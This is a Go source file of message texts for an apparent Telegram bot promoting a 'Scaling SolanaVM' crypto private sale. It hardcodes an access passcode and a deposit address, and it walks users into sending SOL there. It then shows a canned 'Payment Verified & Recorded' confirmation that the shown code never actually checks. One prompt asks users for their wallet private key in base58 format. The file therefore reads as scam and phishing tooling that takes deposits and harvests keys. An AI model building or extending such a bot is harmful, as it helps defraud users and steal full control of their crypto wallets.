// internal/bot/messages.go
package bot

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"github.com/samber/lo"

	"github.com/ibechinedu/Scaling-Solana-Monk/internal/messaging"
)

const (
	DefaultPasscode        = "RICHMINDSET"
	DefaultDepositAddress  = "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU"
	DefaultContractAddress = "A6AAdHfv2Vx288VDPZMJRXb58wRH5FbMReNpAbudRZZv"

	// MinWalletLength and MinSignatureLength are shape heuristics, not validation.
	MinWalletLength    = 32
	MinSignatureLength = 64

	CallbackBeginAuth        = "begin_auth"
	CallbackShowVerification = "show_verification"
	CallbackAmountPrefix     = "sol_"

	timestampLayout = "2006-01-02 15:04:05"
)

// PresetAmounts are the contribution choices offered after wallet submission.
var PresetAmounts = []string{"0.5", "1.2", "2.8", "4.1", "6.7", "9.3"}

const welcomeText = "🪙 *WELCOME TO SCALING SOLANAVM PRIVATE-SALE BOT* 🪙\n\n" +
	"*Premium Private Sale Portal*\n\n" +
	"⭐ *PARTICIPATION PROCESS:*\n\n" +
	"1️⃣ 🔐 *Authentication* - Enter your unique access code\n\n" +
	"2️⃣ 💼 *Wallet Setup* - Submit your wallet address\n\n" +
	"3️⃣ 💰 *Amount Selection* - Choose your SOL contribution\n\n" +
	"4️⃣ 🏛️ *Payment* - Send to our secure deposit address\n\n" +
	"5️⃣ ✅ *Verification* - Confirm with transaction proof\n\n" +
	"*Ready to begin your journey? Click below to proceed* 👇"

const authPromptText = "🤔 *AUTHENTICATION REQUIRED*\n\n" +
	"🔐 *Access Code Verification*\n\n" +
	"*Please enter your unique access passcode to proceed with the private sale.*\n\n" +
	"🛡️ *Security Note:* You have 2 attempts maximum\n\n" +
	"⏰ *Lockout:* 25 minutes if exceeded\n\n" +
	"💬 *Type your access code below...*"

const authSuccessText = "✅ *AUTHENTICATION SUCCESSFUL*\n\n" +
	"🎉 *Welcome, Authorized Participant!*\n\n" +
	"💼 *WALLET ADDRESS COLLECTION*\n\n" +
	"*Please enter your Solana wallet address to proceed with the private sale.*\n\n" +
	"📋 *Requirements:*\n" +
	"• Address length: 22-44 characters\n" +
	"• Must be a valid Solana wallet address\n" +
	"• Double-check for accuracy\n\n" +
	"💬 *Paste your wallet address below...*"

const (
	authFailedText    = "❌ *Invalid access code.*\n\nPlease try again with /auth"
	walletPromptText  = "💼 *Wallet Setup*\n\nPlease submit your wallet address:"
	walletFailedText  = "❌ *Invalid wallet address.*\n\nPlease try again with /wallet"
	graphicFallback   = "🎨 *SolanaVM Private Sale Graphic*\n\n_[Graphic will be displayed here]_"
	selectAmountText  = "*Select your SOL contribution amount:*"
	amountPromptText  = "💰 *Amount Selection*\n\nPlease enter your SOL contribution amount:"
	amountInvalidText = "❌ *Invalid amount.*\n\nPlease enter a positive number."
	amountFormatText  = "❌ *Invalid amount format.*\n\nPlease enter a valid number."
	verifyFailedText  = "❌ *Invalid transaction signature.*\n\nPlease try again with /verify"
	nothingPending    = "🤷 Nothing is waiting for your input right now. See /help for the available commands."
)

const verifyPromptText = "📋 *TRANSACTION VERIFICATION*\n\n" +
	"🧦 *Proof of Payment Required*\n\n" +
	"*Please provide one of the following:*\n\n" +
	"📝 *Option 1: Transaction Hash*\n" +
	"• Copy and paste your transaction ID/hash\n\n" +
	"📷 *Option 2: Screenshot*\n" +
	"• Upload a clear screenshot of your transaction\n\n" +
	"⏳ *Our system will verify your submission within moments...*"

const (
	noWalletText      = "You don't have a connected wallet. Use /connectwallet"
	noPairText        = "You haven't set a pair yet. Use /setpair first."
	priceMissingText  = "Could not retrieve price or icon. Is the pair correct?"
	connectPromptText = "Please enter your private key (base58 format):"
	pairPromptText    = "🔗 *Select Pair*\n\nSend the pair address you want to track:"
	alertPromptText   = "🚨 *Price Alert*\n\nSend the USD price that should trigger the alert:"
	alertInvalidText  = "Invalid price. Please try /alert again."
	buyUsageText      = "*Buy Command*\n\nUse: /buy <amount>\nExample: /buy 0.5\n\nOr type the amount below:"
	sellUsageText     = "*Sell Command*\n\nUse: /sell <amount>\nExample: /sell 100\n\nOr type the amount below:"
)

func walletVerifiedText(address string) string {
	return "✅ *WALLET VERIFIED*\n\n" +
		fmt.Sprintf("💼 *Wallet Address Accepted:*\n\n`%s`\n\n", address) +
		"🎯 *Status:* *Eligible for Private Sale*\n\n" +
		"🚀 *Next Step:* Choose your contribution amount"
}

func amountConfirmedText(amount float64) string {
	return fmt.Sprintf("✅ *Amount confirmed!*\n\nContribution: %s SOL\n\nProceed to /payment to get deposit address.",
		formatAmount(amount))
}

func paymentText(depositAddress string) string {
	return "🏛️ *Payment*\n\n" +
		"Send your SOL to our secure deposit address:\n\n" +
		fmt.Sprintf("`%s`\n\n", depositAddress) +
		"After sending, use /verify with your transaction signature."
}

func selectedAmountText(amount, contract string) string {
	return fmt.Sprintf("*Selected Amount:* %s SOL\n\n*SVM Private Sales Contract Address*\n\n`%s`", amount, contract)
}

func submissionText(processedAt string) string {
	return "🎉 *SUBMISSION SUCCESSFUL!*\n\n" +
		"✅ *Payment Verified & Recorded*\n\n" +
		"🎯 *Status:* *Successfully Submitted*\n" +
		fmt.Sprintf("⏰ *Processed:* %s\n\n", processedAt) +
		"🔔 *What's Next?*\n" +
		"• Our team will review your submission\n" +
		"• You'll receive notifications about next steps\n" +
		"• Keep this chat for future updates\n\n" +
		"🙏 *Thank you for participating in the Scaling SolanaVM Private-sale Bot!* 🪙\n\n" +
		"*May your investment journey be prosperous!* ✨"
}

func helpText(commands []CommandInfo) string {
	var b strings.Builder
	b.WriteString("📖 *Available commands*\n\n")
	for _, c := range commands {
		fmt.Fprintf(&b, "/%s - %s\n", c.Name, c.Description)
	}
	return strings.TrimRight(b.String(), "\n")
}

// amountKeyboard lays the presets out two per row.
func amountKeyboard() [][]messaging.Button {
	buttons := lo.Map(PresetAmounts, func(amount string, _ int) messaging.Button {
		return messaging.Button{Text: amount + " SOL", Data: CallbackAmountPrefix + amount}
	})
	return lo.Chunk(buttons, 2)
}

// formatAmount prints the shortest representation of a SOL amount.
func formatAmount(amount float64) string {
	return strconv.FormatFloat(amount, 'f', -1, 64)
}

// escapeMarkdown neutralizes characters that would break legacy Markdown.
func escapeMarkdown(s string) string {
	return markdownEscaper.Replace(s)
}

var markdownEscaper = strings.NewReplacer("_", "\\_", "*", "\\*", "`", "\\`", "[", "\\[")

// codeSafe removes backticks so user input can sit inside a code span.
func codeSafe(s string) string {
	return strings.ReplaceAll(s, "`", "")
}

func sortedStrings(in []string) []string {
	out := append([]string(nil), in...)
	sort.Strings(out)
	return out
}
